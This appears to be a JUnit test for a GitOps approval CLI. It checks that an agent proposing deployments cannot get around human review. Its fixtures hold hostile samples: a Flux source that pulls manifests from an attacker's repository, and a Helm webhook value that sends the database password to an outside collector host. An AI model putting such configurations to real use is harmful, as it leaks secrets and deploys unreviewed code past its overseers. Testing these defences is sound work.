package dev.countersign.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.gitops.testing.Processes;
import dev.countersign.sops.AgeIdentity;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 17 through the command line, from the attacker's side: an agent with a shell runs
 * {@code countersign propose} with each of the three ways out of the reviewed text. Each fails (exit 1) with a
 * message a reviewer understands, and the repository's refs and objects are exactly as before.
 */
class Issue17Test {
    private static final String POLICY = """
            apiVersion: countersign.dev/v1
            kind: Policy
            metadata: {name: acme}
            spec:
              roles:
                member:   [read, propose, withdraw]
                approver: [read, propose, withdraw, approve, reject, record, revert]
              bindings:
                - {principal: "human:alice", roles: [approver], environments: ["*"]}
                - {principal: "human:bob",   roles: [approver], environments: ["*"]}
                - {principal: "human:dave",  roles: [member],   environments: ["*"]}
                - {principal: "agent:builder", roles: [member], environments: ["*"]}
              environments:
                staging: {approvals: {required: 1, from: [approver]}}
            """;

    @TempDir
    Path folder;

    private String repo;

    @BeforeEach
    void init() throws Exception {
        Files.writeString(folder.resolve("policy.yaml"), POLICY);
        Files.writeString(folder.resolve("staging.yaml"), """
                apiVersion: countersign.dev/v1
                kind: Environment
                metadata: {name: staging}
                spec: {cluster: staging-eu}
                """);
        repo = folder.resolve("repo").toString();
        Cli init = Cli.run(
                "init",
                "--repo",
                repo,
                "--policy",
                folder.resolve("policy.yaml").toString(),
                "--environment",
                folder.resolve("staging.yaml").toString(),
                "--age-recipient",
                AgeIdentity.generate(new SecureRandom()).recipient());
        assertThat(init.code()).as(init.err()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"*\"", "\">=1.0.0\"", "\"1.x\"", "latest"})
    void aFloatingChartVersionFailsNamingTheComponentAndTheValue(String version) throws Exception {
        String before = refsAndObjects();

        Cli denied = agentProposes(write("web.yaml", """
                apiVersion: countersign.dev/v1
                kind: Stack
                metadata: {name: web}
                spec:
                  components:
                    - name: api
                      helm: {repository: oci://ghcr.io/acme/charts, chart: api, version: %s, namespace: web}
                """.formatted(version)));

        assertThat(denied.code()).isEqualTo(1);
        assertThat(denied.err())
                .contains("component 'api': version '" + version.replace("\"", "") + "' is not an exact version")
                .contains("what runs would not be what was approved");
        assertThat(denied.out()).isEmpty();
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    @Test
    void aFluxSourcePointingAtTheAttackersRepositoryFailsNamingIt() throws Exception {
        String before = refsAndObjects();

        Cli denied = agentProposes(write("tools.yaml", """
                apiVersion: countersign.dev/v1
                kind: Stack
                metadata: {name: tools}
                spec:
                  components:
                    - name: sync
                      manifests:
                        - apiVersion: source.toolkit.fluxcd.io/v1
                          kind: GitRepository
                          metadata: {name: payload, namespace: flux-system}
                          spec: {interval: 1m, url: "https://github.com/attacker/payload", ref: {branch: main}}
                        - apiVersion: kustomize.toolkit.fluxcd.io/v1
                          kind: Kustomization
                          metadata: {name: payload, namespace: flux-system}
                          spec: {interval: 1m, prune: true, path: ./, sourceRef: {kind: GitRepository, name: payload}}
                """));

        assertThat(denied.code()).isEqualTo(1);
        assertThat(denied.err())
                .contains("rule reviewed-sources")
                .contains("GitRepository/flux-system/payload")
                .contains("https://github.com/attacker/payload")
                .contains("content no reviewer saw");
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    @Test
    void aSecretCarriedToAnotherHostFailsNamingTheVariableAndThePointer() throws Exception {
        Path secrets = write("secrets.yaml", "db_password: pw-s3cr3t-cli\n");
        Cli first = Cli.run(
                "propose",
                "--repo",
                repo,
                "--as",
                "human:bob",
                "--env",
                "staging",
                "--secrets",
                secrets.toString(),
                shop(""));
        assertThat(first.code()).as(first.err()).isZero();
        String id = first.out().lines().findFirst().orElseThrow();
        Cli approved = Cli.run("approve", "--repo", repo, id, "--as", "human:alice");
        assertThat(approved.out()).as(approved.err()).contains("RECORDED");
        String before = refsAndObjects();

        Cli denied = agentProposes(shop("webhook: \"https://collector.example.net/hook?k=${db_password}\""));

        assertThat(denied.code()).isEqualTo(1);
        assertThat(denied.err())
                .contains("rule secret-confinement")
                .contains("db_password")
                .contains("/helm/values/webhook")
                .doesNotContain("pw-s3cr3t-cli");
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    private Cli agentProposes(Object stackFile) {
        return Cli.run(
                "propose",
                "--repo",
                repo,
                "--as",
                "agent:builder",
                "--on-behalf-of",
                "human:dave",
                "--env",
                "staging",
                stackFile.toString());
    }

    private String shop(String extraValue) throws Exception {
        return write("shop.yaml", """
                        apiVersion: countersign.dev/v1
                        kind: Stack
                        metadata: {name: shop}
                        spec:
                          components:
                            - name: db
                              manifests:
                                - apiVersion: v1
                                  kind: Secret
                                  metadata: {name: db, namespace: shop}
                                  type: Opaque
                                  stringData: {password: "${db_password}"}
                            - name: api
                              dependsOn: [db]
                              helm:
                                repository: https://charts.example.com
                                chart: api
                                version: 1.0.0
                                namespace: shop
                                values: {replicas: 1, %s}
                        """.formatted(extraValue)).toString();
    }

    private Path write(String name, String text) throws Exception {
        return Files.writeString(folder.resolve(name), text);
    }

    /** Every ref with its target and every object id: what "nothing landed" is checked against. */
    private String refsAndObjects() throws Exception {
        Path dir = Path.of(repo);
        String refs =
                Processes.run(dir, "git", "--git-dir=" + repo, "for-each-ref").out();
        String objects = Processes.run(
                        dir, "git", "--git-dir=" + repo, "cat-file", "--batch-all-objects", "--batch-check")
                .out();
        assertThat(refs).contains("refs/heads/main");
        return refs + objects;
    }
}
